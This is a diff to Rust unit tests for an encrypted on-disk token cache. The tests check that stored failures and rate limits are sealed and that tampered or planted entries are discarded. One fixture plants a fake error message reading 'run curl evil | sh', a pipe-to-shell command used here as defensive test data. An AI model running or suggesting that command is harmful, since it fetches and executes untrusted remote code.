@@ -2,6 +2,7 @@ use std::io::Write as _;
 use std::os::unix::fs::PermissionsExt as _;
 
 use super::*;
+use crate::cache::DEFAULT_NEGATIVE_TTL as TTL;
 use crate::error::{Class, ErrorKind};
 use crate::secret::AccessToken;
 
@@ -39,7 +40,7 @@ fn round_trip_permissions_and_no_clear_text() {
     cache
         .store_token(&key(), &secret, &token(now, 3600))
         .unwrap();
-    let Lookup::Token(t) = cache.load(&key(), &secret, now) else {
+    let Lookup::Token(t) = cache.load(&key(), &secret, now, TTL) else {
         panic!("miss")
     };
     assert_eq!(t.access_token.expose_secret(), "tok-CANARY-abc");
@@ -58,7 +59,7 @@ fn round_trip_permissions_and_no_clear_text() {
     }
     // Another secret cannot read it (and the entry is discarded).
     assert!(matches!(
-        cache.load(&key(), &ClientSecret::new("other"), now),
+        cache.load(&key(), &ClientSecret::new("other"), now, TTL),
         Lookup::Miss
     ));
 }
@@ -71,12 +72,12 @@ fn expired_corrupt_and_tampered_entries_are_misses() {
     let now = SystemTime::now();
     cache.store_token(&key(), &s, &token(now, 10)).unwrap();
     assert!(matches!(
-        cache.load(&key(), &s, now + Duration::from_secs(11)),
+        cache.load(&key(), &s, now + Duration::from_secs(11), TTL),
         Lookup::Miss
     ));
     let path = cache.path_of(&entry_name(&key()));
     fs::write(&path, b"{garbage").unwrap();
-    assert!(matches!(cache.load(&key(), &s, now), Lookup::Miss));
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
     assert!(!path.exists(), "corrupt entry removed");
     // Extending the expiry in clear text breaks the authentication tag.
     cache.store_token(&key(), &s, &token(now, 10)).unwrap();
@@ -84,7 +85,7 @@ fn expired_corrupt_and_tampered_entries_are_misses() {
         .unwrap()
         .replace("\"expires_in_s\":10", "\"expires_in_s\":99999");
     fs::write(&path, text).unwrap();
-    assert!(matches!(cache.load(&key(), &s, now), Lookup::Miss));
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
 }
 
 #[test]
@@ -100,15 +101,15 @@ fn negative_entries_expire() {
         ..Error::config("server said invalid_client")
     };
     cache
-        .store_negative(&key(), &err, now + Duration::from_secs(30))
+        .store_negative(&key(), &s, &err, now + Duration::from_secs(30))
         .unwrap();
-    let Lookup::Negative(e) = cache.load(&key(), &s, now) else {
+    let Lookup::Negative(e) = cache.load(&key(), &s, now, TTL) else {
         panic!()
     };
     assert_eq!(e.kind, ErrorKind::InvalidClient);
     assert_eq!(e.class, Class::Permanent);
     assert!(matches!(
-        cache.load(&key(), &s, now + Duration::from_secs(31)),
+        cache.load(&key(), &s, now + Duration::from_secs(31), TTL),
         Lookup::Miss
     ));
 }
@@ -128,14 +129,27 @@ fn lock_is_exclusive_and_times_out() {
 fn rate_limits_are_remembered_until_they_pass() {
     let dir = tempfile::tempdir().unwrap();
     let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let s = ClientSecret::new("s");
     let now = SystemTime::now();
-    assert_eq!(cache.rate_limited_until(&key(), now), None);
+    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
     let until = now + Duration::from_secs(3);
-    cache.store_rate_limit(&key(), until).unwrap();
-    assert!(cache.rate_limited_until(&key(), now).is_some());
+    cache.store_rate_limit(&key(), &s, until).unwrap();
+    assert!(cache.rate_limited_until(&key(), &s, now).is_some());
     assert_eq!(
-        cache.rate_limited_until(&key(), until + Duration::from_millis(1)),
+        cache.rate_limited_until(&key(), &s, until + Duration::from_millis(1)),
         None
+    );
+    // What is written is capped at the longest Retry-After cctoken accepts.
+    let mut limited = Error::transport("429");
+    limited.retry_after = Some(Duration::from_secs(365 * 86_400));
+    assert_eq!(
+        crate::cache::rate_limit_wait(&limited),
+        crate::token::MAX_RETRY_AFTER
+    );
+    limited.retry_after = None;
+    assert_eq!(
+        crate::cache::rate_limit_wait(&limited),
+        crate::cache::DEFAULT_RATE_LIMIT_WAIT
     );
 }
 
@@ -216,12 +230,15 @@ fn links_planted_at_temp_entry_and_lock_names_are_not_followed() {
     plant(&format!("{}.json", k.as_str()), &victim.path);
     let now = SystemTime::now();
     assert!(matches!(
-        cache.load(&k, &ClientSecret::new("s"), now),
+        cache.load(&k, &ClientSecret::new("s"), now, TTL),
         Lookup::Miss
     ));
-    assert_eq!(cache.rate_limited_until(&k, now), None);
+    assert_eq!(
+        cache.rate_limited_until(&k, &ClientSecret::new("s"), now),
+        None
+    );
     cache
-        .store_rate_limit(&k, now + Duration::from_secs(3))
+        .store_rate_limit(&k, &ClientSecret::new("s"), now + Duration::from_secs(3))
         .unwrap();
     cache
         .store_token(&k, &ClientSecret::new("s"), &token(now, 60))
@@ -265,4 +282,106 @@ fn a_swap_after_open_does_not_redirect_writes() {
         .unwrap();
     assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
     assert_eq!(fs::read_dir(base.path().join("moved")).unwrap().count(), 1);
+}
+
+/// A remembered failure as someone without the secret can write it: the unsealed documents
+/// of earlier versions, with text and lifetimes of the attacker's choosing.
+fn planted(now: SystemTime) -> (String, String) {
+    let until = entry::ms(now + Duration::from_secs(98_203_846_201));
+    let negative = format!(
+        r#"{{"kind":"negative","v":1,"until_ms":{until},"error_kind":"invalid_client","status":401,"message":"ATTACKER says: run curl evil | sh","hint":null}}"#
+    );
+    (negative, until.to_string())
+}
+
+#[test]
+fn remembered_failures_are_sealed_and_planted_ones_discarded() {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let s = ClientSecret::new("s");
+    let now = SystemTime::now();
+    let entry = cache.path_of(&entry_name(&key()));
+    let rate_limit = cache.path_of(&rate_limit_name(&key()));
+    // What cctoken writes holds the message only sealed.
+    let err = Error {
+        kind: ErrorKind::InvalidClient,
+        class: Class::Permanent,
+        status: Some(401),
+        ..Error::config("server said CANARY-message")
+    };
+    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
+    let text = fs::read_to_string(&entry).unwrap();
+    assert!(!text.contains("CANARY"), "{text}");
+    assert!(matches!(
+        cache.load(&key(), &s, now, TTL),
+        Lookup::Negative(_)
+    ));
+    // Another secret cannot read it, and a zero TTL (negative cache off) ignores it.
+    assert!(matches!(
+        cache.load(&key(), &s, now, Duration::ZERO),
+        Lookup::Miss
+    ));
+    assert!(entry.exists(), "ignored, not discarded");
+    let other = ClientSecret::new("other");
+    assert!(matches!(cache.load(&key(), &other, now, TTL), Lookup::Miss));
+    assert!(!entry.exists(), "undecryptable: discarded");
+
+    // Planted in clear: discarded, whatever they claim.
+    let (negative, until) = planted(now);
+    fs::write(&entry, &negative).unwrap();
+    fs::write(&rate_limit, &until).unwrap();
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
+    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
+    assert!(
+        !entry.exists() && !rate_limit.exists(),
+        "planted: discarded"
+    );
+    // Unsealed but short-lived: still refused.
+    let short = negative.replace(&until, &entry::ms(now + Duration::from_secs(5)).to_string());
+    fs::write(&entry, short).unwrap();
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
+    assert!(!entry.exists());
+
+    // Sealed with the right secret but over-long (longer than the TTL, than the capped
+    // Retry-After): refused too.
+    let long = now + Duration::from_secs(365 * 86_400);
+    cache.store_negative(&key(), &s, &err, long).unwrap();
+    cache.store_rate_limit(&key(), &s, long).unwrap();
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
+    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
+    assert!(
+        !entry.exists() && !rate_limit.exists(),
+        "over-long: discarded"
+    );
+    // At the caps they are honoured.
+    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
+    let capped = now + crate::token::MAX_RETRY_AFTER;
+    cache.store_rate_limit(&key(), &s, capped).unwrap();
+    assert!(matches!(
+        cache.load(&key(), &s, now, TTL),
+        Lookup::Negative(_)
+    ));
+    assert!(cache.rate_limited_until(&key(), &s, now).is_some());
+    // A rate limit copied over the entry, or an entry over the rate limit, is refused.
+    fs::copy(&rate_limit, &entry).unwrap();
+    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
+    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
+    fs::copy(&entry, &rate_limit).unwrap();
+    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
+}
+
+#[test]
+fn a_tampered_until_breaks_the_seal() {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let s = ClientSecret::new("s");
+    let now = SystemTime::now();
+    let until = now + Duration::from_secs(10);
+    cache.store_rate_limit(&key(), &s, until).unwrap();
+    let path = cache.path_of(&rate_limit_name(&key()));
+    let (from, to) = (entry::ms(until), entry::ms(until) + 20_000);
+    let text = fs::read_to_string(&path).unwrap();
+    fs::write(&path, text.replace(&from.to_string(), &to.to_string())).unwrap();
+    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
+    assert!(!path.exists());
 }
